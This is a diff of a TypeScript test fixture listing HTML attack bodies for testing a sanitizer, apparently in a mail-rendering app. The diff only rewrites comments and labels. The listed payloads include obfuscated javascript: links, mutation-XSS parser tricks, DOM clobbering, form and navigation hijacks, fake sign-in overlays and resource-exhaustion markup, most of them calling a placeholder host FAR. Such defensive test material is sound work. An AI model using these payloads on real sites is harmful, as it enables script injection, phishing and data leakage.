@@ -1,8 +1,8 @@
-// Bodies that want to run, to load, to leave, or to pose as us. FAR is the address of a host that must never
-// be asked. Each is named for what it tries.
+// Bodies that try to run code, load resources, navigate, or impersonate the app. FAR is the URL of a host that must
+// never get a request. Each key names what the body tries.
 
 export const attacks: Readonly<Record<string, string>> = {
-  // run
+  // run code
   "a script": `<script>fetch('FAR/script')</script>`,
   "a script from afar": `<script src="FAR/src.js"></script>`,
   "a module": `<script type="module">import 'FAR/module.js'</script>`,
@@ -15,7 +15,7 @@ export const attacks: Readonly<Record<string, string>> = {
   "a script link in disguise": `<a id="l" href="jav&#x09;ascript:fetch('FAR/tab')">click</a><a href="&#1;javascript:fetch('FAR/control')">click</a><a href=" java\nscript:fetch('FAR/newline')">click</a>`,
   "a link that carries a page": `<a id="l" href="data:text/html,<script>fetch('FAR/datapage')</script>">click</a>`,
   "vbscript and blob": `<a id="l" href="vbscript:msgbox(1)">click</a><a href="blob:FAR/x">b</a><a href="view-source:FAR/vs">v</a><a href="filesystem:FAR/fs">f</a>`,
-  // parsers that disagree
+  // parser differentials
   noscript: `<noscript><p title="</noscript><img src=FAR/noscript onerror=fetch('FAR/noscript2')>"></noscript>`,
   "math and style": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=FAR/mglyph onerror=fetch('FAR/mglyph2')&gt;">`,
   "svg and style": `<svg><style><img src="FAR/svgstyle" onerror="fetch('FAR/svgstyle2')"></style></svg>`,
@@ -27,20 +27,20 @@ export const attacks: Readonly<Record<string, string>> = {
   "a style that closes itself": `<style>/*</style><img src="FAR/stylebreak">*/</style><style><//**/style><img src="FAR/join" onerror="fetch('FAR/join2')"></style>`,
   plaintext: `<p>before</p><plaintext><img src="FAR/plaintext">`,
   "an annotation": `<math><annotation-xml encoding="text/html"><style><img src="FAR/annotation" onerror="fetch('FAR/annotation2')"></style></annotation-xml></math>`,
-  // clobber us
+  // DOM clobbering
   "names of ours": `<img name="body"><form id="documentElement"><input name="style"></form><a id="showMail"></a><img name="querySelectorAll"><form name="getElementById"></form><a id="contentDocument" name="defaultView">x</a>`,
   prototypes: `<div id="__proto__"></div><img name="constructor"><input name="attributes"><input name="childNodes"><form><input name="parentNode"><input name="removeAttribute"></form>`,
   // forms
   "a form": `<form action="FAR/form" method="post"><input name="q" value="x"><input id="t" type="submit"><button id="b" formaction="FAR/formaction">go</button></form>`,
   "a picture that sends": `<form action="FAR/formpicture"><input id="t" type="image" src="FAR/inputimage"></form>`,
   "a form that is somebody else's": `<form id="f" action="FAR/linked"></form><button form="f" id="b">go</button><input type="text" list="d"><isindex action="FAR/isindex">`,
-  // go elsewhere
+  // navigate
   "a refresh": `<meta http-equiv="refresh" content="0;url=FAR/refresh"><meta http-equiv="refresh" content="0;url=javascript:fetch('FAR/refresh2')">`,
   "another base": `<base href="FAR/base/" target="_top"><img src="viabase.png"><a id="l" href="relative">go</a>`,
   "a link to the top": `<a id="l" target="_top" href="javascript:top.location='FAR/top'">top</a><a target="_parent" href="about:blank">parent</a>`,
   "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="FAR/ownpolicy">`,
   "another window's name": `<a id="l" target="mail" href="#x">named</a><iframe name="top" src="FAR/named"></iframe>`,
-  // load
+  // load resources
   "a picture": `<img src="FAR/img">`,
   "pictures for every screen": `<img srcset="FAR/srcset 1x, FAR/srcset2 2x" sizes="100vw"><picture><source srcset="FAR/source" type="image/png"><source media="all" srcset="FAR/source2"><img src="FAR/pictureimg"></picture>`,
   "old attributes": `<body background="FAR/bodybg"><table background="FAR/tablebg"><tr background="FAR/trbg"><td background="FAR/tdbg">x</table><img lowsrc="FAR/lowsrc" dynsrc="FAR/dynsrc"><img longdesc="FAR/longdesc" usemap="FAR/map"><blockquote cite="FAR/cite"></blockquote><head profile="FAR/profile">`,
@@ -59,11 +59,11 @@ export const attacks: Readonly<Record<string, string>> = {
   "pictures that are pages": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='FAR/svgdata'/><script>fetch('FAR/svgdata2')</script></svg>"><img src="data:text/html,<script>fetch('FAR/htmldata')</script>"><object data="data:text/html,<img src=FAR/objdata>"></object>`,
   "ways to the same place": `<img src="//HOST/slashes"><img src="\\\\HOST\\backslashes"><img src="http:HOST/noslash"><img src="ht&#x0A;tp://HOST/newline"><img src="&#x20;FAR/space"><img SRC=FAR/unquoted><img src='FAR/quote"x'><img/src="FAR/slash"><image src="FAR/imagetag"><img src="http://user:pass@HOST/cred">`,
   "our own doors": `<img src="/rpc/closeConversation"><img src="/attachments/../rpc/x"><a id="l" href="/settings">x</a><form action="/rpc/closeConversation" method="post"><button id="b">go</button></form><link rel="stylesheet" href="/docs.css"><img src="/remote-images?u=FAR&s=forged">`,
-  // pose as us
+  // impersonate the app
   "over everything": `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><a id="l" href="FAR/overlay">Sign in again</a></div>`,
   "dialogs and popovers": `<dialog open style="position:fixed;inset:0"><form method="dialog"><button id="b">Sign in</button></form></dialog><div popover id="pop">x</div><button id="t" popovertarget="pop">open</button><div style="position:absolute;top:-999px">x</div>`,
   "things to type into": `<div contenteditable autofocus tabindex="0">Password:</div><textarea autofocus>x</textarea><keygen name="k"><input type="password" autofocus>`,
-  // wear us out
+  // exhaust resources
   "lost ends": `${"<div><b>".repeat(5000)}<img src="FAR/deep">`,
   "a wide one": `<table width="9000"><tr><td style="width:9000px;background:url(FAR/wide)">x</td></tr></table>`,
   "an endless one": `<div style="height:100vh;min-height:200vh">x</div><div style="height:9999999px;background:url(FAR/long)">y</div>`,
